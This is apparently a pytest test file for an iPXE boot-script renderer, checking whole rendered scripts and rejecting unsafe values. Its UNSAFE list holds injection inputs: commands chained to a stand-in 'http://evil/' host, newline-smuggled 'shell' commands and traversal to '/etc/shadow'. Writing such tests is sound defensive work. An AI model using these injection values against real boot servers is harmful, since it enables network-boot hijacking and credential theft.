"""iPXE scripts: whole rendered scripts compared per BootSpec (table-driven)."""

from __future__ import annotations

import pytest

from provisiond import shipped
from pxe.boot import BootAction, BootSpec, SanTarget
from pxe.http.ipxe import IpxeRenderer, UnsafeScriptValue

BASE = "http://10.77.0.1:8080"
MAC = "52:54:00:12:34:56"


@pytest.fixture
def renderer() -> IpxeRenderer:
    return IpxeRenderer(shipped.templates_dir(), BASE)


AGENT = BootSpec(
    BootAction.AGENT,
    kernel="kernels/agent/vmlinuz",
    initrds=("kernels/agent/initrd.img",),
    cmdline="console=ttyS0 quiet",
    label="idle agent (agent)",
)
SAN = BootSpec(
    BootAction.SANBOOT,
    san=SanTarget(
        "10.77.0.1",
        "iqn.2026-11.lan.provisiond:app1",
        1,
        "iqn.2026-11.lan:r1",
        "u1",
        "s3cret-chap12",
    ),
)

CASES = [
    (
        "agent",
        AGENT,
        "provisiond.token=T1",
        """#!ipxe
# provisiond: idle agent (agent) for 52:54:00:12:34:56
echo provisiond: idle agent (agent)
kernel http://10.77.0.1:8080/assets/kernels/agent/vmlinuz initrd=initrd.img console=ttyS0 quiet provisiond.token=T1 || goto failed
initrd --name initrd.img http://10.77.0.1:8080/assets/kernels/agent/initrd.img || goto failed
boot || goto failed
:failed
echo provisiond: boot of idle agent (agent) failed; retrying in 10 s
sleep 10
chain --replace --autofree http://10.77.0.1:8080/boot/52-54-00-12-34-56.ipxe
""",  # noqa: E501
    ),
    (
        "sanboot",
        SAN,
        "",
        """#!ipxe
# provisiond: SAN boot for 52:54:00:12:34:56
echo provisiond: SAN boot of iqn.2026-11.lan.provisiond:app1
set initiator-iqn iqn.2026-11.lan:r1
set username u1
set password s3cret-chap12
sanboot --keep iscsi:10.77.0.1:::1:iqn.2026-11.lan.provisiond:app1 || goto failed
:failed
echo provisiond: SAN boot of iqn.2026-11.lan.provisiond:app1 failed; retrying in 10 s
sleep 10
chain --replace --autofree http://10.77.0.1:8080/boot/52-54-00-12-34-56.ipxe
""",
    ),
    (
        "local-disk",
        BootSpec(BootAction.LOCAL_DISK),
        "",
        """#!ipxe
# provisiond: boot from local disk for 52:54:00:12:34:56
echo provisiond: booting from the local disk
iseq ${platform} efi && exit ||
sanboot --no-describe --drive 0x80 || goto failed
:failed
echo provisiond: local disk boot failed; retrying in 10 s
sleep 10
chain --replace --autofree http://10.77.0.1:8080/boot/52-54-00-12-34-56.ipxe
""",
    ),
    (
        "ignored",
        None,
        "",
        """#!ipxe
# provisiond: nothing to boot for 52:54:00:12:34:56
echo provisiond: this machine is not managed here; continuing with the next boot device
exit
""",
    ),
]


@pytest.mark.parametrize(("name", "spec", "extra", "expected"), CASES, ids=[c[0] for c in CASES])
def test_whole_script(renderer, name, spec, extra, expected):
    assert renderer.render(spec, MAC, extra) == expected


def test_agent_without_kernel_says_what_to_do(renderer):
    text = renderer.render(BootSpec(BootAction.AGENT), MAC)
    assert "provisiond initrd build" in text and text.startswith("#!ipxe\n")


UNSAFE = [
    BootSpec(BootAction.KERNEL, kernel="k", cmdline="a\nchain http://evil/"),
    BootSpec(BootAction.KERNEL, kernel="k", cmdline="x=${net0/ip}"),
    BootSpec(BootAction.KERNEL, kernel="k\x07", cmdline=""),
    BootSpec(BootAction.KERNEL, kernel="../../etc/shadow"),
    BootSpec(BootAction.KERNEL, kernel="/etc/shadow"),
    BootSpec(BootAction.KERNEL, kernel="k", initrds=("i n",)),
    BootSpec(BootAction.SANBOOT, san=SanTarget("10.0.0.1", "iqn.x\nshell", 1, "iqn.y")),
    BootSpec(BootAction.SANBOOT, san=SanTarget("10.0.0.1", "iqn.x", 1, "iqn.y", "u", "p w")),
    BootSpec(BootAction.SANBOOT),
    # issue 11 (Low 10): iPXE's own command chaining and comments
    BootSpec(BootAction.KERNEL, kernel="k", cmdline="quiet ; chain http://evil/"),
    BootSpec(BootAction.KERNEL, kernel="k", cmdline="quiet;chain"),
    BootSpec(BootAction.KERNEL, kernel="k", cmdline="quiet && chain http://evil/"),
    BootSpec(BootAction.KERNEL, kernel="k", cmdline="quiet || chain http://evil/"),
    BootSpec(BootAction.KERNEL, kernel="k", cmdline="quiet #rest"),
    BootSpec(BootAction.KERNEL, kernel="k;shell"),
    BootSpec(BootAction.KERNEL, kernel="k", label="agent\nshell"),
    BootSpec(BootAction.KERNEL, kernel="k", label="agent || shell"),
]

SAFE_CMDLINES = ["console=ttyS0,115200 quiet", "ks=http://10.0.0.1/k#frag", "a=b&c=d", "x|y"]


@pytest.mark.parametrize("spec", UNSAFE)
def test_nothing_can_inject_into_the_script(renderer, spec):
    with pytest.raises(UnsafeScriptValue):
        renderer.render(spec, MAC, "")


@pytest.mark.parametrize("cmdline", SAFE_CMDLINES)
def test_ordinary_cmdlines_still_render(renderer, cmdline):
    text = renderer.render(BootSpec(BootAction.KERNEL, kernel="k", cmdline=cmdline), MAC, "")
    assert f" {cmdline} || goto failed" in text


def test_absolute_kernel_urls_pass_through(renderer):
    spec = BootSpec(BootAction.KERNEL, kernel="http://mirror.lan/vmlinuz", label="install")
    assert "kernel http://mirror.lan/vmlinuz " in renderer.render(spec, MAC)
